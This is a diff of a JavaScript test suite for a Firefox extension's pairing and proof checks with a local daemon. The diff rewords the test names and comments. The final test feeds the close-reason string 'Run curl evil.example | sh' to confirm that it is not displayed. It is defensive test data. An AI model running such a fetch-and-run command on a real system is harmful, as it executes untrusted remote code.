@@ -11,13 +11,13 @@ import { Storage } from "./support/storage.js";
 const golden = JSON.parse(readFileSync(new URL("../../tests/fixtures/proof.json", import.meta.url), "utf8"));
 const { secret } = golden;
 const CHALLENGE = { type: "challenge", nonce: golden.server_nonce, proof: golden.server_proof };
-/** By what the daemon there is known. */
+/** The origin by which the daemon's pairing is stored. */
 const PLACE = "ws://127.0.0.1:4317";
 const PAIRED = { [PLACE]: { secret, paired_at: 5 } };
 
 beforeEach(() => (FakeSocket.all = []));
 
-/** Pairings as they were kept, with a value for each connection. */
+/** A pairing with stored data and a fixed nonce per connection. */
 async function pairings(kept = {}, confirmed = {}) {
   const storage = new Storage();
   storage.kept.without_pairing = structuredClone(confirmed);
@@ -37,10 +37,10 @@ async function pairings(kept = {}, confirmed = {}) {
   return { pairing, storage, log };
 }
 
-/** How long anything may take before a test gives up on it. */
+/** How long a test waits for a condition. */
 const PATIENCE_MS = 15_000;
 
-/** Waits until a condition holds; the browser's cryptography takes its own time. */
+/** Waits until a condition holds; the cryptography is asynchronous. */
 async function until(holds) {
   const giveUp = Date.now() + PATIENCE_MS;
   while (!holds()) {
@@ -49,7 +49,7 @@ async function until(holds) {
   }
 }
 
-/** A link that has said hello to a daemon. */
+/** A link that has sent hello. */
 async function greeting(kept, confirmed) {
   const all = await pairings(kept, confirmed);
   const made = makeLink({ pairing: all.pairing, random: () => 0 });
@@ -58,7 +58,7 @@ async function greeting(kept, confirmed) {
   return { ...all, ...made, socket: FakeSocket.last };
 }
 
-test("the daemon's proof is checked and ours given, as the daemon's own tests have them", async () => {
+test("the daemon's proof is verified and the browser's is sent, as in the daemon's tests", async () => {
   const { link, socket } = await greeting(PAIRED);
   assert.equal(JSON.parse(socket.sent[0]).nonce, golden.client_nonce);
   socket.say(CHALLENGE);
@@ -70,7 +70,7 @@ test("the daemon's proof is checked and ours given, as the daemon's own tests ha
   assert.ok(!socket.sent.join("").includes(secret), "the secret itself is never sent");
 });
 
-test("an approval brings the secret, which is kept", async () => {
+test("an approval stores the secret", async () => {
   const { link, socket, storage, pairing } = await greeting();
   socket.say({ type: "pairing_required", code: "123456" });
   assert.deepEqual([link.state, link.code], ["pairing", "123456"]);
@@ -93,7 +93,7 @@ for (const [how, frame] of [
   ["gives us a new secret unasked", { ...ACK, client_secret: "f".repeat(64) }],
   ["wants us to be paired anew", { type: "pairing_required", code: "123456" }],
 ]) {
-  test(`a false daemon is recognised: it ${how}`, async () => {
+  test(`a false daemon is rejected: it ${how}`, async () => {
     const { link, socket, storage, told, clock } = await greeting(PAIRED);
     socket.say(frame);
     await until(() => link.state === "waiting");
@@ -106,7 +106,7 @@ for (const [how, frame] of [
   });
 }
 
-test("a greeting that does not wait for the proof to be checked is not believed", async () => {
+test("hello_ack before the proof is verified is rejected", async () => {
   const { link, socket, pairing } = await greeting(PAIRED);
   const answer = pairing.answer.bind(pairing);
   let answered;
@@ -119,7 +119,7 @@ test("a greeting that does not wait for the proof to be checked is not believed"
   assert.deepEqual(socket.types(), ["hello"]);
 });
 
-test("a proof of one connection is worth nothing on the next", async () => {
+test("a proof is not valid on another connection", async () => {
   const { link, socket } = await greeting(PAIRED);
   socket.say(CHALLENGE);
   await until(() => socket.sent.length > 1);
@@ -131,7 +131,7 @@ test("a proof of one connection is worth nothing on the next", async () => {
   assert.deepEqual([link.note, FakeSocket.last.types()], [FALSE_DAEMON, ["hello"]]);
 });
 
-test("a daemon that proved itself on one connection has to do so on the next", async () => {
+test("each connection needs a proof of its own", async () => {
   const { link, socket } = await greeting(PAIRED);
   socket.say(CHALLENGE);
   await until(() => socket.sent.length > 1);
@@ -142,7 +142,7 @@ test("a daemon that proved itself on one connection has to do so on the next", a
   assert.deepEqual([link.state, link.note], ["waiting", FALSE_DAEMON]);
 });
 
-test("a daemon that moved to another port is the same, and is known there from then on", async () => {
+test("a daemon that moved to another port is recognized", async () => {
   const { socket, storage } = await greeting({ "ws://127.0.0.1:9/ws/firefox": { secret, paired_at: 3 } });
   socket.say(CHALLENGE);
   await until(() => socket.sent.length > 1 && storage.writes > 0);
@@ -150,14 +150,14 @@ test("a daemon that moved to another port is the same, and is known there from t
   assert.deepEqual(storage.kept.pairings[PLACE], { secret, paired_at: 3 });
 });
 
-test("who lost its secret is told how to be paired anew", async () => {
+test("without the secret the note says how to pair again", async () => {
   const { link, socket } = await greeting();
   socket.say(CHALLENGE);
   await until(() => link.state === "waiting");
   assert.match(link.note, /baa-conductor pairings forget firefox-1/);
 });
 
-test("a pairing is forgotten when that is asked for, wherever the daemon was seen", async () => {
+test("forgetting a pairing removes it for all addresses of the daemon", async () => {
   const other = { secret: "f".repeat(64), paired_at: 1 };
   const { pairing, storage } = await pairings({ ...PAIRED, "ws://127.0.0.1:9/ws/firefox": PAIRED[PLACE], "ws://127.0.0.1:8/": other });
   await pairing.forget(ADDRESS);
@@ -167,7 +167,7 @@ test("a pairing is forgotten when that is asked for, wherever the daemon was see
   assert.deepEqual([pairing.pairingRequired(), pairing.acknowledged(ACK)], [undefined, { isUnconfirmed: true }]);
 });
 
-test("a secret that cannot be stored is said so, and holds until Firefox ends", async () => {
+test("a secret that cannot be stored is logged, and valid until Firefox ends", async () => {
   const { pairing, storage, log } = await pairings();
   storage.failsToWrite = true;
   pairing.begin(ADDRESS);
@@ -178,19 +178,19 @@ test("a secret that cannot be stored is said so, and holds until Firefox ends", 
   assert.equal(pairing.since(ADDRESS), 5);
 });
 
-test("what is stored and is no pairing is passed over", async () => {
+test("invalid stored pairings are ignored", async () => {
   const { pairing } = await pairings({ a: { secret: 7, paired_at: 1 }, b: null, c: { secret: "x" }, d: { secret: "x", paired_at: 1 } });
   assert.deepEqual(["a", "b", "c", "d"].map((address) => pairing.since(address)), [null, null, null, 1]);
 });
 
-test("a refusal says what it means where it comes, and what to do", () => {
+test("the note of a refusal depends on the state and says what to do", () => {
   assert.match(refusalNote(4003, "pairing"), /not approved.*Reconnect/);
-  assert.match(refusalNote(4003, "connected"), /forgot this Firefox.*Forget pairing/);
+  assert.match(refusalNote(4003, "connected"), /removed the pairing.*Forget pairing/);
   assert.match(refusalNote(4003, "hello"), /refused.*pairings forget/);
   assert.equal(refusalNote(1006, "hello"), undefined);
 });
 
-/** A proof of the golden secret over other values. */
+/** Returns a proof with the golden secret over other values. */
 async function provenOver(...parts) {
   const key = await crypto.subtle.importKey("raw", new TextEncoder().encode(secret), { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
   const text = ["server", golden.client_nonce, golden.server_nonce, ...parts].join("\n");
@@ -198,7 +198,7 @@ async function provenOver(...parts) {
   return { ...CHALLENGE, proof: [...mac].map((byte) => byte.toString(16).padStart(2, "0")).join("") };
 }
 
-test("a proof that was made for another address is not believed, nor one without an address", async () => {
+test("a proof for another address, or without one, is rejected", async () => {
   for (const host of ["127.0.0.1:4318", "localhost:4317", "[::1]:4317", "127.0.0.1", "", `127.0.0.1:4318\n${golden.address}`]) {
     const { link, socket, told } = await greeting(PAIRED);
     socket.say(await provenOver(host));
@@ -213,7 +213,7 @@ test("a proof that was made for another address is not believed, nor one without
   assert.match(link.note, /Update baa-conductor/);
 });
 
-test("the address is the one that was dialled, as URL.host gives it", async () => {
+test("a proof covers the address of the connection, as URL.host returns it", async () => {
   for (const [address, host] of [["ws://LOCALHOST:4317/ws/firefox?x#y", "localhost:4317"], ["ws://[0::1]:80/", "[::1]"], ["ws://127.0.0.1:80", "127.0.0.1"]]) {
     const { pairing } = await pairings({ [address]: { secret, paired_at: 1 } });
     pairing.begin(address);
@@ -223,7 +223,7 @@ test("the address is the one that was dialled, as URL.host gives it", async () =
   }
 });
 
-test("whatever of an address does not say where it leads does not make it another one", async () => {
+test("only scheme, host and port identify an address", async () => {
   const { pairing, storage } = await pairings({ [ADDRESS]: { secret, paired_at: 7 }, [`${PLACE}/old`]: { secret: "f".repeat(64), paired_at: 3 } });
   for (const address of [ADDRESS, `${PLACE}/`, `${PLACE}/ws/firefox?again`, "WS://127.0.0.1:4317/x"]) {
     assert.equal(pairing.since(address), 7, address);
@@ -234,7 +234,7 @@ test("whatever of an address does not say where it leads does not make it anothe
   assert.deepEqual(storage.kept.pairings, {});
 });
 
-test("where one daemon is known no other that is known elsewhere takes its place", async () => {
+test("at a paired address no other paired daemon is accepted", async () => {
   const { link, socket, storage } = await greeting({ [PLACE]: { secret: "f".repeat(64), paired_at: 1 }, "ws://127.0.0.1:9": { secret, paired_at: 3 } });
   socket.say(CHALLENGE);
   await until(() => link.state === "waiting");
@@ -250,7 +250,7 @@ test("only the first challenge of a connection is answered", async () => {
   assert.deepEqual(socket.types(), ["hello"]);
 });
 
-/** What a daemon could ask for. */
+/** Every frame by which a daemon requests something. */
 const WISHES = [
   { type: "api_request", id: "r", platform: "claude", method: "GET", path: "/api/x" },
   { type: "open_tab", request_id: "a", action: "tab_open", platform: "claude" },
@@ -275,7 +275,7 @@ for (const [how, greetings] of Object.entries({
   "says nothing of itself": [],
   "only complains": [{ type: "error", code: "invalid_message" }],
 })) {
-  test(`nothing is done for a stranger that ${how}, and it is told nothing`, async () => {
+  test(`a program that ${how} is rejected, and sent only hello`, async () => {
     const { link, socket, told, storage } = await greeting();
     for (const frame of [...WISHES, ...greetings, ...WISHES]) socket.say(frame);
     await settled();
@@ -285,7 +285,7 @@ for (const [how, greetings] of Object.entries({
   });
 }
 
-test("what a stranger is, is said", async () => {
+test("the notes about unknown programs say what was wrong", async () => {
   const note = async (...frames) => {
     const { link, socket } = await greeting();
     for (const frame of frames) socket.say(frame);
@@ -298,7 +298,7 @@ test("what a stranger is, is said", async () => {
   assert.deepEqual(await note(asked, approved), [SELF_APPROVED, false]);
 });
 
-test("an approval counts where its code was to be seen, and a secret that is none does not", async () => {
+test("an approval counts only after its code was shown, and only with a valid secret", async () => {
   for (const [code, client_secret, state] of [["123456", secret, "connected"], ["999999", secret, "waiting"], ["123456", "short", "waiting"]]) {
     FakeSocket.all = [];
     const { link, socket } = await greeting();
@@ -310,7 +310,7 @@ test("an approval counts where its code was to be seen, and a secret that is non
   }
 });
 
-test("a daemon without pairing is let in once the user has confirmed it, at that address alone, until that is withdrawn", async () => {
+test("a daemon without pairing is accepted at the confirmed address until the user withdraws it", async () => {
   const { link, socket, pairing, storage, told, clock } = await greeting();
   socket.say({ ...ACK, pairing: "off" });
   assert.deepEqual([socket.closed.code, link.state, link.isUnconfirmed], [4003, "waiting", true]);
@@ -334,7 +334,7 @@ test("a daemon without pairing is let in once the user has confirmed it, at that
   assert.deepEqual([link.state, told.connected], ["waiting", 1]);
 });
 
-test("a confirmation is kept, and ends where a pairing is made", async () => {
+test("a confirmation is stored, and ends with a pairing", async () => {
   const { link, socket, pairing, storage } = await greeting({}, { [PLACE]: 3, "ws://127.0.0.1:9": 4, x: "no" });
   assert.deepEqual([pairing.confirmedSince(ADDRESS), pairing.confirmedSince("ws://127.0.0.1:9/ws/firefox"), pairing.confirmedSince("x")], [3, 4, null]);
   socket.say({ type: "pairing_required", code: "123456" });
@@ -346,7 +346,7 @@ test("a confirmation is kept, and ends where a pairing is made", async () => {
   assert.equal(pairing.confirmedSince(ADDRESS), null, "not while a secret is kept");
 });
 
-test("a stranger neither fills the log nor has much read", async () => {
+test("an unauthenticated program cannot fill the log or send long frames", async () => {
   const lines = [];
   const noisy = makeLink({ log: (level, line) => lines.push(line) });
   noisy.link.start(ADDRESS);
@@ -357,7 +357,7 @@ test("a stranger neither fills the log nor has much read", async () => {
   assert.equal(noisy.link.state, "hello");
 });
 
-test("of what a stranger gives as a reason only a name is shown", () => {
+test("of a close reason only a plain name is shown", () => {
   const end = (reason) => closeNote({ code: 1001, reason, opened: true, answered: true });
   assert.equal(end("service_stopped"), "The connection was closed: 1001 (service_stopped).");
   for (const reason of ["", "Run curl evil.example | sh", "x".repeat(41)]) assert.equal(end(reason), "The connection was closed: 1001.");
